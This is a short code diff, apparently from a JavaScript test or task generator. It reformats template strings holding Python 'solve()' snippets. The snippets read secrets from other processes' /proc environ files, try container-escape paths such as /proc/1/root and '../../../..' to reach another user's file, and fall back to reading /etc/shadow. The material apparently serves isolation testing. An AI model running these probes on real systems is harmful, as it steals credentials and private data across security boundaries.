@@ -53,11 +53,17 @@ def solve():
     for pid in (1, os.getppid(), ${pid}, "self", "thread-self"):
         try: text = open(f"/proc/{pid}/environ").read()
         except OSError: continue
-        if ${JSON.stringify(variable)} in text: return text.split(${JSON.stringify(`${variable}=`)})[1].split("\\0")[0]`,
+        if ${JSON.stringify(variable)} in text: return text.split(${
+        JSON.stringify(`${variable}=`)
+      })[1].split("\\0")[0]`,
       "files of others": `
 def solve():
-    for path in (${JSON.stringify(file)}, "/proc/1/root" + ${JSON.stringify(file)}, "/proc/${pid}/root" + ${JSON.stringify(file)},
-                 "/old" + ${JSON.stringify(file)}, "/jail" + ${JSON.stringify(file)}, "../../../.." + ${JSON.stringify(file)}):
+    for path in (${JSON.stringify(file)}, "/proc/1/root" + ${JSON.stringify(file)}, "/proc/${pid}/root" + ${
+        JSON.stringify(file)
+      },
+                 "/old" + ${JSON.stringify(file)}, "/jail" + ${JSON.stringify(file)}, "../../../.." + ${
+        JSON.stringify(file)
+      }):
         try: return open(path).read()
         except OSError: pass
     return open("/etc/shadow").read()`,
